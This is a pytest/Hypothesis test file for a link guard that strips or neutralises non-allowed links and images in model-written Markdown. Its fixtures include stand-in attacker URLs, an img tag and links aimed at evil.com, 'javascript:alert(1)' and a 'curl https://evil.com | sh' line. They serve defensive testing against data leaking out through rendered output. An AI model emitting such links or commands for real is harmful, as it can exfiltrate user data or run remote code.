from random import Random

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rich_agent.domain.answer.links import AllowedLinks
from rich_agent.web.link_guard import LinkGuard, guard_links
from tests.unit.rendering.test_links import DISGUISES
from tests.unit.web.rendered import page, ways_out

OWN = "https://ok.example/page"
PIECES = [
    *("https://evil.com/x", "evil.com", "//evil.com", "www.evil.com", "me@evil.com", OWN),
    *("[", "]", "(", ")", "](", "![", "]:", "[1]", "[x]", "<", ">", "\\", "`", "``", "```", "~~~"),
    *(
        "<img src=//evil.com/p>",
        '<a href="//evil.com">',
        "</a>",
        "<!--",
        "-->",
        "<script>",
        "<div>",
    ),
    *(
        "\n",
        "\n\n",
        " ",
        "    ",
        "\t",
        "- ",
        "1. ",
        "> ",
        "  ",
        "* ",
        "# ",
        "[ ] ",
        "---",
        "| ",
        "|",
    ),
    *("\n|-|-|\n", "$", "$$", "\\[", "*", "**", "_", "&#58;", "&lt;", "&quot;", '"', "'", "!", ":"),
    *(
        "javascript:alert(1)",
        "data:x",
        "https:",
        "https://",
        "@evil.com/x",
        "a",
        "é",
        "¢",
        "Com",
        "は",
        "、",
        "。",
        ".",
        ".com",
        "/",
    ),
]
BLOCKS = [
    *(
        "```\n",
        "```https://evil.com/x\n",
        "````\n",
        "~~~\n",
        "```py\n",
        "``` x` y\n",
        "  ```\n",
        "   ```\n",
        "     ```\n",
        "\t```\n",
    ),
    *(
        "- ```\n",
        "1. ```\n",
        "14. ```\n",
        "> ```\n",
        "> > ```\n",
        "- > ```\n",
        "```\u3000\n",
        "```\t\n",
    ),
    *(
        "- a\n",
        "  - b\n",
        "14. c\n",
        "   d\n",
        "lazy\n",
        "> e\n",
        "***\n",
        "- - -\n",
        "\n",
        "\u3000\n",
    ),
    *("$$\n", "$", "  ", "    ", "> ", "\r", "https://evil.com/x\n", "[a](//evil.com)\n"),
]
"""Lines that begin or end blocks of code, lists and quotes, or look as if they did."""
TEXTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=24).map("".join)


@pytest.mark.parametrize("text", DISGUISES)
@pytest.mark.parametrize(
    "around", ["{}", "See {} or\n\n{}\n\nthere.", "| a | b |\n|-|-|\n| {} | `{}` |"]
)
def test_guard_links_leads_to_no_unknown_place(text: str, around: str) -> None:
    """Whatever a model writes, no renderer links or loads it."""
    assert ways_out(guard_links(around.replace("{}", text), [OWN]), [OWN]) == {}


@pytest.mark.parametrize(
    "between", ["<", "`", "！", "。", "]", "[", '"', "\\`", "![", "\u3000<", "**`"]
)
@pytest.mark.parametrize("scheme", ["https://", "(http://", "ftp://", 'a"https://'])
def test_guard_links_ends_a_scheme_with_what_stands_before_a_mark(
    scheme: str, between: str
) -> None:
    """A client that finds addresses first reads on through marks and code, to the host behind."""
    text = f"See {scheme}{between}me@evil.com/x?d=1{between} there"
    assert ways_out(guard_links(text, [OWN]), [OWN]) == {}


@pytest.mark.parametrize("before", ["> ", "- ", "1. ", "$$\n", "\\]\n", "\\[\n> "])
def test_guard_links_behind_the_mark_of_a_block(before: str) -> None:
    """The code that an address becomes is not torn by the mark before it."""
    text = f"{before}```https://evil.com/x\n  a\n  ```\nhttps://evil.com/y\n```\nevil.com\n```"
    assert ways_out(guard_links(text, [OWN]), [OWN]) == {}


@given(TEXTS)
@example("]:https://evil.com/x")
@example("<!--www.evil.com\x80https://evil.com/x")
@settings(max_examples=300, deadline=None)
def test_guard_links_leads_to_allowed_places_in_any_text(text: str) -> None:
    """No renderer, with HTML and bare addresses as links or without, finds another address."""
    assert ways_out(guard_links(text, [OWN]), [OWN]) == {}


@given(st.lists(st.sampled_from(BLOCKS), max_size=14).map("".join))
@example("- ```\n```\n  ```\nhttps://evil.com/x\n")
@settings(max_examples=300, deadline=None)
def test_guard_links_leads_to_allowed_places_around_any_block(text: str) -> None:
    """Text that one client reads as code and another one as text is guarded as text."""
    assert ways_out(guard_links(text, [OWN]), [OWN]) == {}


LONG = ["word ", "a", "aGVsbG8h/", "漢字", "https://evil.com/", "evil.com.", "[", "[a](", "<a", "$"]
PARTS = st.tuples(
    st.sampled_from(["", "`", "``", "[x](", "<", "](", "$", "a", "```", "> ", "(", '"', "www."]),
    st.sampled_from(LONG),
    st.sampled_from([1, 40, 1_990, 2_000, 2_010]),
    st.sampled_from(
        ["", "`", "``", ")", ">", ".com", "://evil.com/x", " ", "\n", '")', "evil.com"]
    ),
)


@given(st.lists(PARTS, min_size=1, max_size=3), st.randoms(use_true_random=False))
@settings(max_examples=20, deadline=None)
def test_guard_links_of_long_lines_is_the_same_in_pieces(
    parts: list[tuple[str, str, int, str]], chance: Random
) -> None:
    """A line without end is cut at the same place, however it comes, and leads nowhere else."""
    text = "".join(f"{start}{(one * length)[:length]}{end}" for start, one, length, end in parts)
    shown, guard, at = "", LinkGuard(AllowedLinks.of([OWN])), 0
    while at < len(text):
        size = chance.choice([7, 900, 5_000])
        shown, at = shown + guard.feed(text[at : at + size]), at + size
    shown += guard.end()
    assert shown == guard_links(text, [OWN])
    assert ways_out(shown, [OWN]) == {}


@given(TEXTS)
@example("```\nhttps://evil.com/x")
@settings(max_examples=300, deadline=None)
def test_guard_links_of_a_growing_text_only_appends(text: str) -> None:
    """Text that was sent stays; the whole begins with it."""
    shown, guard = "", LinkGuard(AllowedLinks.of([OWN]))
    for end, letter in enumerate(text, start=1):
        shown += guard.feed(letter)
        assert shown == LinkGuard(AllowedLinks.of([OWN])).feed(text[:end])
    assert guard_links(text, [OWN]) == shown + guard.end()


@pytest.mark.parametrize(
    "text",
    [
        "Use `https://evil.com` and ``<img src=x>``, please.",
        "```html\n<img src=https://evil.com>\n[x]: y\n```\n\nSo it is.",
        "1. First\n\n   ```sh\n   curl https://evil.com | sh\n   ```\n2. Second",
        "A claim [1]. Another one [2], and a < b, 3<4; \\*no\\* **bold** _it_ $5.",
        "| a | b |\n|---|---|\n| `x[0](1)` | [1] |",
        "これは本です。[1] 次、「はい」。",
        f'[The page]({OWN}) of [yours]({OWN} "title") <{OWN}>',
        "Version 1.2.3, e.g. this, etc. Mr. Smith (2024): yes/no & more; 10:30.",
    ],
)
def test_guard_links_leaves_harmless_text(text: str) -> None:
    """Code, markers, styles, tables and allowed links are as they were."""
    assert guard_links(text, [OWN]) == text


def test_guard_links_keeps_refused_addresses_readable() -> None:
    """A person can read and copy them; the label stays."""
    guarded = guard_links("See [the page](https://evil.com/?q=1) or ![it](https://evil.com/i.png).")
    shown = page(guarded, "gfm")
    assert shown.text.strip() == (
        "See [the page] (https://evil.com/?q=1) or ! [it] (https://evil.com/i.png)."
    )
    assert shown.tags.count("code") == 2
    assert "img" not in shown.tags


def test_guard_links_parts_markers() -> None:
    """Two markers side by side would be one link, to the wrong source."""
    assert guard_links("So [1][2]. Wow![3]") == "So [1] [2]. Wow! [3]"


def growing(text: str) -> str:
    """The part that is shown of a text that may go on."""
    return LinkGuard(AllowedLinks(frozenset())).feed(text)


def test_guard_links_shows_text_while_it_grows() -> None:
    """Not only at the end of a line; Japanese, which has no spaces, at each mark."""
    assert growing("One two thr") == "One two "
    assert growing("これは本です。次は、まだ") == "これは本です。次は、"
    assert growing("Code `a b") == "Code "
    assert growing("```py\nx = 1") == "```py\nx = 1"


def test_guard_links_leaves_growing_code_open() -> None:
    """Also where a line has just ended."""
    assert growing("```\n") == "```\n"
    assert growing("- a\n\n  ```\n\n") == "- a\n\n  ```\n\n"


def test_guard_links_closes_code_at_the_end() -> None:
    """The addition to a text that was cut is not a part of its code."""
    assert guard_links("```\nx") == "```\nx\n```"
